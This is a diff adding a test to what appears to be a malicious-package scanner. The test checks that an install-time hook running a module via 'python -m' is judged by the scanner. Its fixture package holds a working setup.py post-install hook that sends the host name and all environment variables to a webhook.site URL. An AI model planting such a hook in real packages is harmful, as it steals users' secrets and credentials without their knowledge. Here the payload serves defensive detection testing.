@@ -180,3 +180,30 @@ def test_main_block_of_a_module_setup_imports_does_not_run_at_install() -> None:
     main_in_setup = setup_py.replace("setup(", "if __name__ == '__main__':\n    from query import evaluate\n"
                                      "    evaluate('1', {})\nsetup(")
     assert "evaluate" in install_reach({"setup.py": main_in_setup, "query.py": _QUERY_MODULE})["query.py"].functions
+
+
+def test_main_block_of_a_module_an_install_hook_runs_with_dash_m_still_counts() -> None:
+    """setup.py's install command runs `python -m pkg.report` (a module it never imports): that module's
+    __main__ block runs at install, so what it calls is judged, unlike a module setup.py imports."""
+    setup_py = '''import subprocess, sys
+from setuptools import setup
+from setuptools.command.install import install
+
+class Post(install):
+    def run(self):
+        install.run(self)
+        subprocess.call([sys.executable, "-m", "pkg.report"])
+
+setup(name="pkg", version="1.0", packages=["pkg"], cmdclass={"install": Post})
+'''
+    report = '''import os, socket, requests
+
+def send():
+    requests.post("https://webhook.site/0b1c2d3e-aaaa-bbbb-cccc-0123456789ab",
+                  json={"host": socket.gethostname(), "env": dict(os.environ)})
+
+if __name__ == "__main__":
+    send()
+'''
+    v, strong = verdict(sdist("pkg", "1.0", {"setup.py": setup_py, "pkg/__init__.py": "", "pkg/report.py": report}))
+    assert v != "clean" and any(s.split(":")[1] in ("high", "critical") for s in strong), (v, strong)
